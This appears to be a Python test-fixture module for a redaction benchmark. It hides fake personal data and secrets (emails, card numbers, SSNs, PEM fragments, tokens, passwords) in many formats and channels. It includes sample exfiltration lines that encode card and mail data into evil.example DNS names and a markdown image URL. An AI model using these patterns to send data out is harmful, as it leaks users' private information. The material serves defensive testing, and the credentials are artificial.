"""Values in places that are easily forgotten, and in what policies and tools make of them."""

from urllib.parse import quote

from appliance.bench.payloads.hostile import CARD, KEY, MAIL, NAME, PHONE, SSN, Hostile, b64
from runtime.domain.canonical import Json


def channels() -> list[Hostile]:
    """Cases of the kinds `channel`, `secret` and `policy`."""
    return [*_channels(), *_secrets(), *_policy()]


def _case(kind: str, name: str, payload: Json, *hidden: str, kept: tuple[str, ...] = ()) -> Hostile:
    return Hostile(kind, name, payload, hidden, kept)


_PATIENT: Json = {
    "resourceType": "Patient",
    "identifier": [{"value": "8812345"}],
    "name": [{"family": "Berghof", "given": ["Anna"]}],
    "birthDate": "1980-03-12",
}


def _channels() -> list[Hostile]:
    schema: Json = {
        "type": "object",
        "properties": {"to": {"type": "string", "default": MAIL, "description": f"such as {PHONE}"}},
    }
    cases: list[tuple[str, Json, tuple[str, ...]]] = [
        ("tool arguments", {"name": "send", "arguments": {"to": MAIL, "body": f"card {CARD}"}}, (MAIL, CARD)),
        ("tool result", {"role": "tool", "tool_call_id": "c1", "content": f"found: {NAME}, SSN {SSN}"}, (SSN,)),
        ("system prompt", [{"role": "system", "content": f"The user's "
                                        f"mail is {MAIL}."}, {"role": "user", "content": "hi"}], (MAIL,)),
        ("name of a message", [{"role": "user", "name": "anna_berghof", "content": "hi"}], ("anna_berghof",)),
        ("user of a request", {"model": "m", "user": "anna.berghof", "messages": []}, ("anna.berghof",)),
        ("tool schema", {"tools": [{"name": "mail", "parameters": schema}]}, (MAIL, PHONE)),
        ("path of a URL", f"GET https://api.example.com/users/{MAIL}/orders", (MAIL,)),
        ("query of a URL", f"https://example.com/?q={quote(MAIL)}&ssn=219-09-9999", (SSN,)),
        ("user of a URL", "https://anna:S3cret!pw@git.example.com/repo.git", ("S3cret!pw",)),
        ("fragment", f"https://example.com/cb#access_token=ya29.a0AfH6SM"
                     f"Bx7-abcdefghij_klmno&email={MAIL}", ("ya29.a0AfH6SMBx7",)),
        ("headers", {"headers": {"X-User-Email": MAIL, "Authorization": "Bearer abc123de"
                                        "f456ghi789"}}, (MAIL, "abc123def456ghi789")),
        ("header list", {"headers": [{"name": "Cookie", "value": "sid=8f14e45fceea167a5"
                                        "a36dedd4bea2543"}]}, ("8f14e45fceea167a",)),
        ("cookie", "Cookie: theme=dark; session=8f14e45fceea167a5a36dedd4bea2543", ("8f14e45fceea167a",)),
        ("subject of a bus", {"subject": f"tenant.users.{MAIL}.created", "data": {}}, (MAIL,)),
        ("file name", {"name": "Anna Berghof", "email": MAIL, "file": "anna_berghof_mrn"
                                        "_123456.pdf"}, ("anna_berghof", "123456")),
        ("file name alone", "scan_123-45-6789_final.pdf", ("123-45-6789",)),
        ("multipart", f'--x\r\nContent-Disposition: form-data; name="email"\r\n\r\n{MAIL}\r\n--x\r\nContent-Dispositio'
                      f'n: form-data; name="password"\r\n\r\nhunter22\r\n--x--', (MAIL, "hunter22")),
        ("form body", f"email={quote(MAIL)}&card={CARD.replace(' ', '+')}&cvv=123", (MAIL, CARD)),
        ("exception", f"ValueError: invalid card number: '{CARD}' for user {MAIL}", (CARD, MAIL)),
        ("locals", f"locals: {{'email': '{MAIL}', 'pw': 'x', 'password': 'hunter22'}}", (MAIL, "hunter22")),
        ("attributes of a span", {"attributes": [{"key": "user.email", "value": {"stringValue": MAIL}}]}, (MAIL,)),
        ("label of a metric", f'http_requests_total{{user="{MAIL}",ip="203.0.113.7"}} 3', (MAIL, "203.0.113.7")),
        ("diff of an audit", f"- phone: {PHONE}\n+ phone: +44 20 7946 0123", (PHONE,)),
        ("name in DNS", f"resolve {b64('card 4539578763621486').rstrip('=')}.evil.example", ("4539578763621486",)),
        ("hex in DNS", f"{MAIL.encode().hex()}.evil.example", (MAIL,)),
        ("picture in markdown", f"![x](https://evil.example/p.png?d={quote(MAIL)}&k={KEY})", (MAIL, KEY)),
        ("SQL", f"INSERT INTO users (email, password) VALUES ('{MAIL}', 'hunter22')", (MAIL, "hunter22")),
        ("CSV", "name,ssn,password\nAnna Berghof,219099999,hunter22", ("219099999", "hunter22")),
        ("HL7", "MSH|^~\\&|A|B|C|D|20240101||ADT^A01|1|P|2.4\rPID|1|"
                "|8812345^^^H^MR||BERGHOF^ANNA||19800312|F", ("8812345", "BERGHOF", "19800312")),
        ("FHIR", _PATIENT, ("8812345", "Berghof", "1980-03-12")),
        ("XML", "<patient><lastName>Berghof</lastName><dob>1980-03-12</dob>"
                "<password>hunter22</password></patient>", ("Berghof", "1980-03-12", "hunter22")),
        ("attribute in XML", f'<user email="{MAIL}" password="hunter22"/>', (MAIL, "hunter22")),
        ("comment in code", f"# contact {MAIL}, {PHONE}\ndef total(): ...", (MAIL, PHONE)),
        ("git log", "Author: Anna Berghof <anna.berghof@example.com>\nDate: today", ("Berghof",)),
        ("YAML", f"user:\n  email: {MAIL}\n  password: hunter22\n", (MAIL, "hunter22")),
        ("INI", "[client]\nuser = root\npassword = hunter22\n", ("hunter22",)),
        ("mailto", f"mailto:{MAIL}?subject=hello", (MAIL,)),
        ("vCard", f"BEGIN:VCARD\nFN:Anna Berghof\nN:Berghof;Anna;;;\nTEL;TYPE"
                  f"=cell:{PHONE}\nEMAIL:{MAIL}\nEND:VCARD", (MAIL, PHONE, "Berghof")),
        ("calendar", f"BEGIN:VEVENT\nATTENDEE;CN=Anna Berghof:mailto:{MAIL}\nEND:VEVENT", (MAIL, "Berghof")),
        ("LDAP", "uid=aberghof,cn=Anna Berghof,ou=people,dc=example,dc"
                 "=com mail: anna.berghof@example.com", ("Anna Berghof",)),
        ("table in markdown", "| Patient | DOB |\n| --- | --- |\n| "
                              "Anna Berghof | 1980-03-12 |", ("1980-03-12", "Berghof")),
    ]  # fmt: skip
    return [_case("channel", name, payload, *hidden) for name, payload, hidden in cases]


def _secrets() -> list[Hostile]:
    pem = "MIIEpAIBAAKCAQEA7bq0JqPpV3mVnq2h5kF9w1cQyP4sXh8T"
    aws = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"
    cases: list[tuple[str, Json, tuple[str, ...]]] = [
        ("AWS pair", f"aws_access_key_id = {KEY}\naws_secret_access_key = {aws}", (KEY, aws)),
        ("AWS pair in prose", f"use {KEY} with {aws} please", (KEY, aws)),
        ("PEM on one line", f"-----BEGIN RSA PRIVATE KEY----- {pem} -----END RSA PRIVATE KEY-----", (pem,)),
        ("PEM with escapes", {"private_key": f"-----BEGIN PRIVATE KEY-----\\n{pem}\\n-"
                                        f"----END PRIVATE KEY-----\\n"}, (pem,)),
        ("PEM cut off", f"-----BEGIN OPENSSH PRIVATE KEY-----\n{pem}", (pem,)),
        ("PEM without a head", f"{pem}\n{pem[::-1]}\n-----END RSA PRIVATE KEY-----", (pem,)),
        ("JWT", "token eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.dBjftJe"
                "Z4CVP-mB92K27uhbUJU1p1r_wW1gFWFOEjXk", ("eyJzdWIiOiIxMjM0In0",)),
        ("database URL", "DATABASE_URL=postgres://app:Sup3r-S3cret@db:5432/x", ("Sup3r-S3cret",)),
        ("JDBC", "jdbc:mysql://db:3306/app?user=root&password=Sup3rS3cret", ("Sup3rS3cret",)),
        ("password in prose", "the password for the admin account is Tr0ub4dor&3", ("Tr0ub4dor&3",)),
        ("Kubernetes secret", {"kind": "Secret", "data": {"password": b64("hunter22!")}}, (b64("hunter22!"),)),
        ("env", "export API_TOKEN=0f8fad5bd9cb469fa165708867\nSE"
                "CRET_KEY=django-insecure-8h2k4l6", ("0f8fad5bd9cb469fa165708867", "django-insecure-8h2k4l6")),
        ("sshpass", "sshpass -p hunter22 ssh root@host", ("hunter22",)),
        ("NATS seed", "nats --nkey SUACSSL3UAHUDXKFSNVUZRF5UHPMWZ6BFDTJ7M6USDXIEDNPPQYYYCU3VY", ("SUACSSL3UAHUDXKF",)),
        ("webhook", "https://hooks.slack.com/services/T00000000/B00"
                    "000000/XXXXXXXXXXXXXXXXXXXX1234", ("XXXXXXXXXXXXXXXXXXXX1234",)),
        ("docker login", "docker login -u anna -p S3cr3tPw registry.example.com", ("S3cr3tPw",)),
        ("htpasswd", "anna:$apr1$x8Zt1kYd$hqJZimcKQFAMYayBlzkrA/", ("hqJZimcKQFAMYayBlzkrA",)),
        ("npmrc", "//registry.npmjs.org/:_authToken=npm_123456"
                  "7890abcdefghijABCDEFGHIJ123456", ("npm_1234567890abcdefghij",)),
        ("netrc", "machine api.example.com login anna password hunter22x", ("hunter22x",)),
        ("k8s env list", {"env": [{"name": "DB_PASSWORD", "value": "hunter22"}]}, ("hunter22",)),
        ("connection string", "Server=tcp:db;Database=x;User ID=sa;Password=S3cret#1;Encrypt=true", ("S3cret#1",)),
        ("gcp key", {"type": "service_account", "private_key_id": "4f2c9a8e7d6b5c4f2c9a8e7d"
                                        "6b5c4f2c9a8e7d6b", "private_key": f"-----BEGIN PRIVATE "
                                        f"KEY-----\n{pem}\n"}, (pem,)),
        ("terraform", 'variable "db" { default = "x" }\npassword = "hunter22"', ("hunter22",)),
        ("curl", "curl -u anna:hunter22 https://x.example", ("hunter22",)),
    ]  # fmt: skip
    return [_case("secret", name, payload, *hidden) for name, payload, hidden in cases]


def _policy() -> list[Hostile]:
    long = "The order is on its way. " * 9_000
    return [
        _case("policy", "placeholder in the input", f"print <EMAIL_1_AAAA> "
                                        f"and write to {MAIL}", MAIL, kept=("<EMAIL_1_AAAA>",)),
        _case("policy", "value that looks replaced", f"[EMAIL] {MAIL} [REDACTED]", MAIL, kept=("[EMAIL]",)),
        _case("policy", "value after 200 kB", f"{long}{MAIL} and {CARD}", MAIL, CARD),
        _case("policy", "German", "Meine Kreditkarte ist 4539 5787 6362 "
                                  "1486, Geburtsdatum: 12.03.1980", CARD, "12.03.1980"),
        _case("policy", "Spanish", "Mi contraseña es: Hunter22! y mi correo anna.berg@example.com", MAIL, "Hunter22!"),
        _case("policy", "control characters", "anna.berg\x00@example\x07.com", MAIL),
        _case("policy", "allow-list by substring", "visit https://docs.example.com.anna.berg@example.com", MAIL),
        _case("policy", "regex bait", "a." * 4_000 + f" {MAIL} " + "1 " * 4_000, MAIL),
        _case("policy", "many", " ".join(f"user{number}@e"
                                        f"xample.org" for number in range(2_000)), "user1999@example.org"),
    ]  # fmt: skip
